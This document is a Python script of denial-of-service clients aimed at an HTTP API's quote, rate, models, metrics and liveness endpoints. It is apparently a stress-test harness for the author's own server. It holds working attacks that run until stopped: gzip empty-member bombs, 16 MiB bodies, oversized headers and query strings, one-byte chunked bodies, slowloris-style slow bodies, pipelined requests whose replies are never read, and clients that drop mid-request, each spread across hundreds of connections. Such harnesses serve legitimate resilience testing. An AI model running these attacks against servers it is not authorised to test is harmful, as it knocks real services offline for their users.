"""Clients that want a server to cost much, as a process of their own: `python attacks.py NAME HOST PORT`.

Each attack goes on until the process is ended. It takes what it is answered, or loses its connection, and begins again.
"""

import asyncio
import gzip
import itertools
import json
import os
import resource
import socket
import sys
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from datetime import date, timedelta

MIB = 2**20
QUOTE, RATE = "/api/v1/video/quote", "/api/v1/rate"
USAGE = {"type": "text", "model": "grok-4-3", "usage": {"prompt_tokens": 1000, "completion_tokens": 10}}


def post(path: str, body: bytes, *headers: str, length: int | None = None) -> bytes:
    """A request as bytes; `length` is what it says of its body."""
    lines = [f"POST {path} HTTP/1.1", "Host: x", "Content-Type: application/json", *headers]
    lines.append(f"Content-Length: {len(body) if length is None else length}")
    return "\r\n".join([*lines, "", ""]).encode() + body


def get(path: str, *headers: str) -> bytes:
    return "\r\n".join([f"GET {path} HTTP/1.1", "Host: x", *headers, "", ""]).encode()


def unknown_keys(count: int) -> bytes:
    keys = ",".join(f'"{number:x}":1' for number in range(count))
    return b'{"model":"ovi-image-to-video",' + keys.encode() + b"}"


def batch(*usages: object, count: int = 1000) -> bytes:
    return json.dumps({"usages": list(itertools.islice(itertools.cycle(usages), count))}).encode()


def misspelt(count: int = 1000) -> bytes:
    usages = [{"type": "text", "model": f"grok-4-{number}"} for number in range(count)]
    return json.dumps({"usages": usages}).encode()


def filled(size: int) -> bytes:
    """A body of a size that is a list of numbers which are not integers."""
    return b'{"usages":[' + b"1.1," * ((size - 20) // 4) + b"1]}"


EMPTY_MEMBER = gzip.compress(b"", 9)
PACKED = "Content-Encoding: gzip"
DAYS = (date(2024, 1, 1) + timedelta(days=number % 3000) for number in itertools.count())


def _same(*requests: bytes) -> Iterator[bytes]:
    return itertools.cycle(requests)


def _days() -> Iterator[bytes]:
    for day in DAYS:
        yield get(f"/api/v1/models?at={day}", "Accept-Encoding: br")


def chunked(path: str, *chunks: bytes) -> bytes:
    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
    return head.encode() + b"".join(b"%x\r\n%s\r\n" % (len(chunk), chunk) for chunk in (*chunks, b""))


UPGRADE = "Connection: Upgrade", "Upgrade: websocket"
# Requests that are sent one after the other, and the number of connections that send them at the same time.
IN_TURN: dict[str, tuple[Callable[[], Iterator[bytes]], int]] = {
    "unknown keys": (lambda: _same(post(QUOTE, unknown_keys(200_000)), post(QUOTE, unknown_keys(90_000))), 8),
    "unknown keys in gzip": (
        lambda: _same(
            post(QUOTE, gzip.compress(unknown_keys(200_000)), PACKED),
            post(QUOTE, gzip.compress(unknown_keys(90_000)), PACKED),
        ),
        8,
    ),
    "empty members": (
        lambda: _same(post(QUOTE, EMPTY_MEMBER * ((MIB - 100) // len(EMPTY_MEMBER)) + gzip.compress(b"{}"), PACKED)),
        8,
    ),
    "misspelt names": (lambda: _same(post(RATE, misspelt())), 8),
    "other days": (_days, 8),
    "16 MiB": (lambda: _same(post(QUOTE, filled(16 * MIB))), 40),
    "1 MiB": (lambda: _same(post(RATE, filled(MIB)), post(RATE, batch(USAGE, count=1000).ljust(MIB))), 40),
    "headers": (
        lambda: _same(
            get("/api/v1/models/grok-4-3", "Accept-Encoding: " + "a," * 32_000),
            get("/api/v1/models?" + "a&" * 4_000),
            get("/api/v1/models?" + "at=x&" * 1_500),
            get("/nothing/" + "%20" * 2_500),
            get("/livez", *["a:"] * 99),
            get("/livez", *["a:"] * 12_000),
            get("/metrics", "Accept: " + "a;b," * 16_000),
            get("/openapi.json"),
        ),
        40,
    ),
    "chunks of a byte": (lambda: _same(chunked(QUOTE, *[b" "] * 40_000, b"{}")), 40),
    "scrapes and upgrades": (
        lambda: _same(get("/metrics"), get("/livez", *UPGRADE), post(QUOTE, b"{}", "Expect: 100-continue")),
        100,
    ),
    "unknown counts": (lambda: _same(post(RATE, b'{"model":"grok-4-3","usage":%s}' % unknown_keys(1500))), 40),
}


async def connections(host: str, port: int) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """One connection after the other, for ever; where there is none, a little later."""
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(0.1)
            continue
        try:
            yield reader, writer
        except (OSError, EOFError):
            await asyncio.sleep(0.01)
        finally:
            writer.close()


async def ask_in_turn(host: str, port: int, requests: Iterator[bytes]) -> None:
    """Send one request after the other, and read each answer."""
    while True:
        async for reader, writer in connections(host, port):
            try:
                while True:
                    writer.write(next(requests))
                    head = (await reader.readuntil(b"\r\n\r\n")).lower()
                    length = head.partition(b"content-length:")[2].split()
                    await reader.readexactly(int(length[0]) if length else 0)
                    if b"connection: close" in head:
                        break
            except (OSError, EOFError):
                pass


async def never_read(host: str, port: int, request: bytes) -> None:
    """Send on one connection whatever it takes, and read nothing."""
    loop = asyncio.get_running_loop()
    while True:
        with socket.socket() as connection:
            # Before it connects: else the kernel would take megabytes of answers for the client.
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.setblocking(False)
            try:
                await loop.sock_connect(connection, (host, port))
                await loop.sock_sendall(connection, request)
                while True:  # until it is closed at the other end
                    await asyncio.sleep(1)
                    await loop.sock_sendall(connection, b"\r\n")
            except OSError:
                await asyncio.sleep(0.1)


async def slow_bodies(host: str, port: int) -> None:
    """Send most of a long body, and then a byte a second."""
    while True:
        async for _, writer in connections(host, port):
            try:
                writer.write(post(QUOTE, b" " * (MIB - 1000), length=MIB))
                while True:
                    await writer.drain()
                    await asyncio.sleep(1)
                    writer.write(b" ")
            except OSError:
                pass


async def leave(host: str, port: int) -> None:
    """Ask for what takes long, and be gone."""
    while True:
        async for _, writer in connections(host, port):
            writer.write(post(RATE, misspelt()))
            await asyncio.sleep(0.02)
            break


def _all(count: int, one: Callable[[], Awaitable[None]]) -> list[Awaitable[None]]:
    return [one() for _ in range(count)]


def attack(name: str, host: str, port: int) -> list[Awaitable[None]]:
    """The clients of an attack."""
    if name in IN_TURN:
        requests, count = IN_TURN[name]
        return _all(count, lambda: ask_in_turn(host, port, requests()))
    quote = post(QUOTE, b'{"model": "ovi-image-to-video"}')
    others: dict[str, tuple[int, Callable[[], Awaitable[None]]]] = {
        "pipelines": (1010, lambda: never_read(host, port, quote * 150)),
        "pipelined listings": (1010, lambda: never_read(host, port, get("/api/v1/models") * 150)),
        "pipelined bytes": (300, lambda: never_read(host, port, b"GET / HTTP/1.1\r\n\r\n" * 20_000)),
        "answers that are not read": (300, lambda: never_read(host, port, post(RATE, batch(USAGE)))),
        "slow bodies": (300, lambda: slow_bodies(host, port)),
        "clients that leave": (20, lambda: leave(host, port)),
    }
    count, one = others[name]
    return _all(count, one)


NAMES = (
    *IN_TURN,
    *("pipelines", "pipelined listings", "pipelined bytes", "answers that are not read", "slow bodies"),
    "clients that leave",
)


async def main() -> None:
    """Attack until the process is ended."""
    os.nice(10)
    name, host, port = sys.argv[1:]
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    await asyncio.gather(*attack(name, host, int(port)))


if __name__ == "__main__":
    asyncio.run(main())
